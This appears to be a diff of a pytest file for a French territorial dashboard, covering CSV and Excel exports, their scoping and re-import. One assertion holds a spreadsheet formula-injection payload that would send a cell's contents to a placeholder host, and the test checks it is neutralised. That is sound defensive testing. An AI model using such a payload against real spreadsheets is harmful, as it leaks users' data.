@@ -7,7 +7,9 @@ holds only the geography and the reference tables, export again, compare.
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import re
 import shutil
 from pathlib import Path
 
@@ -16,9 +18,31 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from dashboard.codes import EventKind
 from dashboard.db import SCHEMA_SQL, Database
-from dashboard.imports import LOAD_ORDER, TEMPLATES_BY_ENTITY, describe, export_entity, import_file, import_workbook
-from dashboard.imports.export import entity_frame, export_workbook, neutralised, scoped_row_count
+from dashboard.i18n import CODE_LABELS
+from dashboard.imports import (
+    LOAD_ORDER,
+    TEMPLATES_BY_ENTITY,
+    describe,
+    export_entity,
+    import_file,
+    import_files,
+    import_workbook,
+)
+from dashboard.imports.export import (
+    ExportSource,
+    column_label,
+    entity_frame,
+    export_bytes,
+    export_file_name,
+    export_workbook,
+    neutralised,
+    scoped_row_count,
+)
+from dashboard.imports.loader import entity_of_file_name
+from dashboard.imports.validation import normalise
+from dashboard.scope import Period
 from tests.imports.conftest import FIXTURES
 
 # Reference tables that no template imports: a fresh database gets them from the source.
@@ -107,13 +131,17 @@ def test_csv_cells_are_french_and_xlsx_cells_typed(db_file: Path, tmp_path: Path
     raw = (tmp_path / "flux.csv").read_bytes()
     assert raw.startswith("\ufeff".encode())  # Excel reads the BOM as UTF-8
     lines = raw.decode("utf-8-sig").splitlines()
-    assert lines[0] == "identifiant;entreprise;diagnostic;sens;categorie;description;quantite;unite;frequence"
-    assert "F-1;E-0001;;out;carton;Cartons;12,5;t;yearly" in lines
+    assert re.fullmatch(  # the import of flows just now set the data date
+        r"Source : Observatoire territorial EIT — données au \d\d/\d\d/20\d\d — tous territoires — exporté le .*",
+        lines[0],
+    )
+    assert lines[1] == "Identifiant;Entreprise;Diagnostic;Sens;Catégorie;Description;Quantité;Unité;Fréquence"
+    assert "F-1;E-0001;;Sortant;carton;Cartons;12,5;t;Annuel" in lines  # French labels, not out / yearly
     diagnostics = pd.read_excel(tmp_path / "diagnostics.xlsx")
-    assert diagnostics.loc[0, "date_diagnostic"] == pd.Timestamp(2024, 3, 15)  # a real date cell
-    companies = pd.read_excel(tmp_path / "entreprises.xlsx", dtype={"code_commune": object})
-    assert companies.loc[0, "code_commune"] == "41269"  # commune codes stay text: no lost leading zero
-    assert companies.loc[0, "latitude"] == pytest.approx(47.793)
+    assert diagnostics.loc[0, "Date diagnostic"] == pd.Timestamp(2024, 3, 15)  # a real date cell
+    companies = pd.read_excel(tmp_path / "entreprises.xlsx", dtype={"Code commune": object})
+    assert companies.loc[0, "Code commune"] == "41269"  # commune codes stay text: no lost leading zero
+    assert companies.loc[0, "Latitude"] == pytest.approx(47.793)
 
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -135,7 +163,7 @@ def test_no_exported_cell_can_be_evaluated_as_a_formula(db_file: Path, tmp_path:
     assert '\'=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")' in cells and "'=1+1" in cells
 
     workbook = openpyxl.load_workbook(tmp_path / "entreprises.xlsx")
-    written = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
+    written = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
     assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
     risky = [cell for cell in written if isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS]
     assert len(risky) == 5 and all(cell.quotePrefix for cell in risky)  # Excel keeps them text when edited
@@ -149,7 +177,7 @@ def test_no_exported_cell_can_be_evaluated_as_a_formula(db_file: Path, tmp_path:
         cursor.execute("DELETE FROM company WHERE company_id LIKE 'E-02%'")
     only_new = tmp_path / "companies.csv"
     only_new.write_text(
-        "\n".join(line for line in text.splitlines() if line.startswith(("identifiant", "E-02"))), encoding="utf-8"
+        "\n".join(line for line in text.splitlines() if line.startswith(("Identifiant", "E-02"))), encoding="utf-8"
     )
     assert import_file(fresh, "companies", only_new).ok
     assert dict(fresh.query_rows("SELECT company_id, name FROM company WHERE company_id LIKE 'E-02%'")) == stored
@@ -176,13 +204,95 @@ def test_an_export_for_a_territory_holds_only_that_territorys_rows(source_path: 
     own_programme = set(db.query_rows(  # a company also counts when a programme of the territory diagnosed it
         "SELECT company_id FROM scope_companies($scope)", {"scope": EXPORT_TERRITORY}
     ))  # fmt: skip
-    assert all(located[company] in communes or (company,) in own_programme for company in companies["identifiant"])
+    assert all(located[company] in communes or (company,) in own_programme for company in companies["Identifiant"])
     stats = entity_frame(db, TEMPLATES_BY_ENTITY["artisan_stats"], scope=EXPORT_TERRITORY)
-    assert len(stats) > 0 and {"commune:" + code for code in stats["code_commune"]} <= communes
+    assert len(stats) > 0 and {"commune:" + code for code in stats["Code commune"]} <= communes
     for entity in ("flows", "synergies", "events", "indicator_values"):
         scoped = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY))
         assert scoped == scoped_row_count(db, entity, EXPORT_TERRITORY)
         whole = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity]))
         # the demo's declared indicator values are all the Vendômois programme's
         assert scoped < whole if entity != "indicator_values" else 0 < scoped <= whole, entity
+    db.close()
+
+
+VENDOMOIS = "CA Territoires Vendômois"
+PERIOD = Period(2025)
+
+
+def _csv_rows(data: bytes) -> tuple[str, pd.DataFrame]:
+    """The source line and the table of a CSV export."""
+    text = data.decode("utf-8-sig")
+    first, rest = text.split("\n", 1)
+    return first, pd.read_csv(io.StringIO(rest), sep=";", dtype=str, keep_default_na=False)
+
+
+def test_a_page_export_holds_the_territory_and_period_shown_and_says_so(source_path: Path):
+    db = Database(source_path, read_only=True)
+    source = ExportSource(data_as_of=dt.date(2026, 10, 31), territory=VENDOMOIS, period="Année 2025")
+    line, events = _csv_rows(export_bytes(db, "events", "csv", scope=EXPORT_TERRITORY, period=PERIOD, source=source))
+    assert line.startswith(
+        "Source : Observatoire territorial EIT — données au 31/10/2026 — territoire : CA Territoires Vendômois — "
+        "période : Année 2025 — exporté le "
+    )
+    assert 0 < len(events) == scoped_row_count(db, "events", EXPORT_TERRITORY, PERIOD)
+    assert len(events) < scoped_row_count(db, "events", EXPORT_TERRITORY)  # other years left out
+    assert all(date.endswith("/2025") for date in events["Date"])
+    in_scope = {row[0] for row in db.query_rows("SELECT event_id FROM scope_events($s)", {"s": EXPORT_TERRITORY})}
+    assert set(events["Identifiant"]) <= in_scope
+    assert set(events["Type"]) <= {CODE_LABELS[(EventKind, kind.value)] for kind in EventKind}  # labels, no codes
+    db.close()
+
+
+def test_every_export_header_reads_back_as_its_template_column():
+    for template in TEMPLATES_BY_ENTITY.values():
+        for column in template.columns:
+            label = column_label(column)
+            assert label != column.header and normalise(label) == column.header, (template.entity, label)
+
+
+def test_an_xlsx_export_keeps_its_source_in_an_about_sheet_and_its_properties(db_file: Path):
+    db = Database(db_file)
+    data = export_bytes(db, "companies", "xlsx")
+    db.close()
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    assert workbook.sheetnames == ["Entreprises", "À propos"]
+    assert workbook["Entreprises"]["A1"].value == "Identifiant"  # data sheets start with their header
+    about = [cell.value for row in workbook["À propos"].iter_rows() for cell in row if cell.value]
+    assert about[1].startswith("Source : Observatoire territorial EIT — données au 20/11/2026 — tous territoires")
+    assert workbook.properties.description == about[1]
+
+
+def test_export_file_names_are_french_and_name_their_entity():
+    name = export_file_name("synergies", "csv", "Communauté d'agglomération Territoires Vendômois", Period(2026))
+    assert name == "synergies_ca-territoires-vendomois_2026.csv"
+    assert export_file_name("indicator_values", "xlsx", None, None) == "valeurs-d-indicateurs.xlsx"
+    assert entity_of_file_name(name) == "synergies"
+    assert entity_of_file_name("valeurs-d-indicateurs (2).xlsx") is None  # a browser's copy number is not a name
+    assert entity_of_file_name("entreprises_ca-territoires-vendomois_2026-T3.csv") == "companies"
+
+
+def test_a_page_export_re_imports_identically_and_silently(source_path: Path, tmp_path: Path):
+    """Events of the Vendômois in 2025, exported as the page does, deleted, imported back: the same rows, no notice."""
+    path = tmp_path / "copy.duckdb"
+    shutil.copyfile(source_path, path)
+    db = Database(path)
+    source = ExportSource(territory=VENDOMOIS, period="Année 2025")
+    files = {}
+    for entity in ("events", "event_participants"):
+        frame = entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY, period=PERIOD)
+        files[entity] = (frame, tmp_path / export_file_name(entity, "csv", VENDOMOIS, PERIOD))
+        files[entity][1].write_bytes(
+            export_bytes(db, entity, "csv", scope=EXPORT_TERRITORY, period=PERIOD, source=source)
+        )
+    ids = list(files["events"][0]["Identifiant"])
+    for table in ("event_participant", "event"):  # names of the schema; one transaction each (DuckDB's FK checks)
+        with db.transaction() as cursor:
+            cursor.execute(f"DELETE FROM {table} WHERE event_id IN (SELECT unnest($ids))", {"ids": ids})
+    result = import_files(db, [files["events"][1], files["event_participants"][1]])  # French names say the type
+    assert result.ok, [describe(p) for p in result.problems[:5]]
+    assert result.notices == []
+    for entity, (frame, _) in files.items():
+        again = entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY, period=PERIOD)
+        pd.testing.assert_frame_equal(again, frame, obj=entity)
     db.close()
